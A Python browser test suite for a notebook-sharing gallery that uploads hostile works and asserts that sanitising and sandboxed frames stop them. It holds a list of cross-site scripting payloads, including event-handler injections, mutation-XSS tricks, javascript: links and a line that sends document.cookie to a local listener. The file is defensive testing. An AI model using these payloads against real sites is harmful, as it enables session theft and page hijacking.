"""The gallery in a browser, and works that were made to do harm."""

import base64
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from secrets import token_hex

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as EC  # noqa: N812 - so Selenium's own pages call it

from browser import chromium, complaints
from divebell.database import admin
from signed_in import COOKIE, ROOT
from visitor import wait


@pytest.fixture(scope="module")
def driver():
    with chromium() as one:
        yield one


@pytest.fixture(scope="module")
def elsewhere():
    """A server elsewhere that notes whatever it is asked for: its address, and what it heard."""
    heard = []

    class Notes(BaseHTTPRequestHandler):
        def do_GET(self):
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Notes) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", heard
        server.shutdown()


@pytest.fixture
def listener(elsewhere):
    """Give an address of this test alone there, and the function that says what was asked for below it."""
    address, heard = elsewhere
    own = f"/{token_hex(4)}"
    return f"{address}{own}", lambda: [path.removeprefix(own) for path in heard if path.startswith(own)]


@pytest.fixture(autouse=True)
def nothing_shared(cluster):
    with admin(cluster.state) as database:
        database.execute("TRUNCATE shared.work CASCADE")


def visit(driver, site, path, name="ana"):
    driver.get(f"{site.address}{ROOT}static/icon.svg")
    driver.delete_all_cookies()
    driver.add_cookie({"name": COOKIE, "value": site.cookie(name), "path": ROOT, "sameSite": "Lax"})
    driver.get(f"{site.address}{path if path.startswith('/') else ROOT + path}")


def share(site, name, path, contents, **words):
    with site.client(name) as client:
        answer = client.post(
            "api/shared",
            params={"path": path, **words},
            content=contents,
            headers={"X-Form-Token": f"form-{name}"},
        )
    assert answer.status_code == 201, answer.text
    return answer.json()


def notebook(*cells):
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def markdown(text):
    return {"cell_type": "markdown", "metadata": {}, "source": text}


def shows(data):
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    return {"cell_type": "code", "metadata": {}, "source": "x", "outputs": [output], "execution_count": 1}


HARM = """
try { parent.document.title = "taken over" } catch (error) {}
try { top.location = "{elsewhere}/top" } catch (error) {}
try { new Image().src = "{elsewhere}/image?" + document.cookie } catch (error) {}
try { fetch("{elsewhere}/fetch") } catch (error) {}
try { fetch("/services/event/api/shared", {credentials: "include"}).then(a => a.text()).then(t => document.body.append("READ" + ":" + t)) } catch (error) {}
document.body.append("IT" + "-" + "RAN")
"""

WAYS = (
    "<script>{harm}</script>",
    "<img src=x onerror='{harm}'>",
    "<svg onload='{harm}'><script>{harm}</script><animate onbegin='{harm}'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror='{harm}'>",
    "<noscript><p title=\"</noscript><img src=x onerror='{harm}'>\">",
    "<iframe srcdoc='<script>{harm}</script>'></iframe><iframe src='{elsewhere}/frame'></iframe>",
    "<object data='{elsewhere}/object'></object><embed src='{elsewhere}/embed'>",
    "<meta http-equiv=refresh content='0;url={elsewhere}/refresh'><base href='{elsewhere}/'>",
    "<link rel=stylesheet href='{elsewhere}/style'><style>@import '{elsewhere}/import'; body {{background: url({elsewhere}/back)}}</style>",
    "<form action='{elsewhere}/form'><input name=password autofocus onfocus='{harm}'><button>Sign in</button></form>",
    "<div style='position: fixed; inset: 0; z-index: 9; background: url({elsewhere}/url)'>covers</div>",
    "<details open ontoggle='{harm}'><summary>x</summary></details><video src=x onerror='{harm}'></video>",
    "<a id=bad href='javascript:{harm}'>click</a><a id=data href='data:text/html,<script>{harm}</script>'>click</a>",
    "<template shadowrootmode=open><script>{harm}</script></template><body onload='{harm}'>",
)


def hostile(elsewhere):
    harm = HARM.replace("{elsewhere}", elsewhere)
    return [
        way.replace("{harm}", harm if "<script>" in way else harm.replace("'", "&#39;").replace("\n", " ")).replace("{elsewhere}", elsewhere).replace("{{", "{").replace("}}", "}")
        for way in WAYS
    ]  # fmt: skip


def unharmed(driver, site, listener, page):
    """Say that nothing ran, nothing was fetched, and the page is what it was."""
    assert driver.current_url == f"{site.address}{page}"
    assert "taken over" not in driver.title
    assert listener[1]() == []


def in_frame(driver):
    driver.switch_to.default_content()
    driver.switch_to.frame(wait(driver).until(lambda d: d.find_element(By.CSS_SELECTOR, "iframe.work")))
    return driver.find_element(By.TAG_NAME, "body")


def test_the_harm_of_these_tests_is_done_where_nothing_keeps_it_away(driver, listener):
    address, heard = listener
    for number, way in enumerate(hostile(f"{address}/{{number}}")[:3]):
        page = way.replace("{number}", str(number)).encode()
        driver.get(f"data:text/html;base64,{base64.b64encode(page).decode()}")
        done = (f"/{number}/fetch", f"/{number}/top")
        wait(driver).until(lambda _, done=done: any(path.startswith(done) for path in heard()))


def test_a_hostile_notebook_does_nothing(driver, site, listener):
    elsewhere, _ = listener
    ways = hostile(elsewhere)
    harm = HARM.replace("{elsewhere}", elsewhere)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{harm.replace(chr(34), chr(39))}"><script>{harm}</script></svg>'
    cells = [markdown("# Harmless"), *map(markdown, ways)]
    cells += [shows({"text/html": way}) for way in ways]
    cells += [shows({"text/markdown": way}) for way in ways]
    cells += [
        shows({"image/svg+xml": svg}),
        shows({"application/javascript": harm, "text/plain": "plain"}),
        shows({"text/latex": f"$</script><script>{harm}</script>$"}),
        shows({"image/png": '"><script>' + harm + "</script>"}),
        shows({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}}),
    ]
    work = share(site, "ben", "harm.ipynb", notebook(*cells))
    visit(driver, site, work["url"])
    body = in_frame(driver)
    assert "Harmless" in body.text
    assert "IT-RAN" not in body.text
    assert (
        driver.find_elements(By.CSS_SELECTOR, "script, iframe, object, embed, form, meta[http-equiv], link")
        == []
    )
    for link in driver.find_elements(By.CSS_SELECTOR, "a"):
        assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:"))
    driver.switch_to.default_content()
    unharmed(driver, site, listener, work["url"])


@pytest.mark.parametrize("alone", [False, True])
def test_the_frame_alone_keeps_harm_away_where_cleaning_failed(driver, site, cluster, listener, alone):
    work = share(site, "ben", "harm.md", b"# Harmless")
    ways = "".join(hostile(listener[0])).replace("http-equiv=refresh", "name=x")
    with admin(cluster.state) as database:
        database.execute("CALL shared.keep_page(%s, 1, %s, NULL)", (work["id"], f"<html><body>here {ways}"))
    page = f"{work['url']}/frame" if alone else work["url"]
    visit(driver, site, page)
    body = driver.find_element(By.TAG_NAME, "body") if alone else in_frame(driver)
    assert "here" in body.text
    assert "IT-RAN" not in body.text
    assert "READ:" not in body.text
    driver.switch_to.default_content()
    unharmed(driver, site, listener, page)


def test_an_html_file_runs_its_scripts_apart_from_everything(driver, site, listener):
    tries = """
    <body><p id=said></p><script>
    const said = document.getElementById("said");
    const say = (word) => { said.textContent += word + ";" };
    const attempt = (what, action) => { try { action(); say(what + " worked") } catch (error) { say(what + " failed") } };
    say("ran");
    attempt("cookies", () => document.cookie.length);
    attempt("storage", () => localStorage.length);
    attempt("parent", () => parent.document.title);
    fetch("/services/event/api/shared", {credentials: "include"}).then(() => say("api worked"), () => say("api failed"));
    fetch("ELSEWHERE/fetch", {mode: "no-cors"}).then(() => say("network worked"), () => say("network failed"));
    new Image().src = "ELSEWHERE/image";
    attempt("window", () => { if (!window.open("ELSEWHERE/window")) throw 1 });
    attempt("top", () => { top.location = "ELSEWHERE/top" });
    try { new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:9"}]}).createDataChannel("x") } catch (error) {}
    navigator.sendBeacon("ELSEWHERE/beacon");
    setTimeout(() => say("waited"), 1500);
    </script></body>""".replace("ELSEWHERE", listener[0])
    work = share(site, "ben", "map.html", tries.encode())
    visit(driver, site, work["url"])
    in_frame(driver)
    tried = {"cookies", "storage", "parent", "api", "network", "window", "top"}

    def said(d):
        words = d.find_element(By.ID, "said").text.split(";")
        return words if len(words) > len(tried) + 2 else None  # it ran, it waited, and nothing after the last

    assert set(wait(driver).until(said)) == {"ran", "waited", "", *(f"{what} failed" for what in tried)}
    driver.switch_to.default_content()
    unharmed(driver, site, listener, work["url"])
    visit(driver, site, f"{work['url']}/frame")
    assert driver.find_element(By.ID, "said").text == ""
    unharmed(driver, site, listener, f"{work['url']}/frame")


def test_an_html_file_cannot_lead_the_frame_elsewhere(driver, site, listener):
    away = f'<p>before</p><script>location = "{listener[0]}/away"</script>'
    work = share(site, "ben", "away.html", away.encode())
    visit(driver, site, work["url"])
    wait(driver).until(lambda d: any("frame-src" in one for one in complaints(d)))
    unharmed(driver, site, listener, work["url"])


def test_a_picture_that_holds_a_script_runs_nothing(driver, site, listener):
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{HARM.replace("{elsewhere}", listener[0])}</script><image href="{listener[0]}/in-svg"/></svg>'
    work = share(site, "ben", "harm.svg", svg.encode())
    for page in (work["url"], f"{work['url']}/frame"):
        visit(driver, site, page)
        unharmed(driver, site, listener, page)


def test_the_form_cannot_be_sent_before_its_script_is_there(driver, site):
    driver.execute_cdp_cmd("Network.enable", {})
    driver.execute_cdp_cmd("Network.setBlockedURLs", {"urls": ["*/share*.js*"]})
    try:
        visit(driver, site, "gallery/share")
        buttons = driver.find_elements(By.CSS_SELECTOR, "#share button, #share-map button")
        assert [one.is_enabled() for one in buttons] == [False, False]
    finally:
        driver.execute_cdp_cmd("Network.setBlockedURLs", {"urls": []})
        driver.execute_cdp_cmd("Network.disable", {})
    visit(driver, site, "gallery/share")
    buttons = driver.find_elements(By.CSS_SELECTOR, "#share button, #share-map button")
    assert [one.is_enabled() for one in buttons] == [True, True]


def test_a_work_is_shared_in_the_form_seen_by_others_without_reloading_and_taken_back(driver, site, tmp_path):
    visit(driver, site, "gallery", "ben")
    assert "Nothing yet" in driver.find_element(By.ID, "works").text
    share(site, "ana", "first.md", b"# First\n\nOf ana's.", title="The first work")
    wait(driver).until(lambda d: "The first work" in d.find_element(By.ID, "works").text)
    driver.find_element(By.LINK_TEXT, "Share my work").click()
    file = tmp_path / "second.ipynb"
    file.write_bytes(notebook(markdown("password = 'horse4battery'")))
    wait(driver).until(lambda d: d.find_element(By.NAME, "file")).send_keys(str(file))
    wait(driver).until(EC.element_to_be_clickable((By.CSS_SELECTOR, "#share button"))).click()
    wait(driver).until(lambda d: "cell 1" in d.find_element(By.CSS_SELECTOR, "#share [role=alert]").text)
    file.write_bytes(notebook(markdown("# Second")))
    driver.find_element(By.NAME, "file").send_keys(str(file))
    driver.find_element(By.CSS_SELECTOR, "#share button").click()
    wait(driver).until(lambda d: d.find_element(By.CSS_SELECTOR, "h1.name").text == "Second")
    wait(driver).until(lambda d: "Second" in in_frame(d).text)
    driver.switch_to.default_content()
    driver.find_element(By.XPATH, "//button[text()='Take back']").click()
    driver.find_element(By.XPATH, "//button[text()='Take it back']").click()
    wait(driver).until(lambda d: "The first work" in d.find_element(By.ID, "works").text)
    assert "Second" not in driver.find_element(By.ID, "works").text
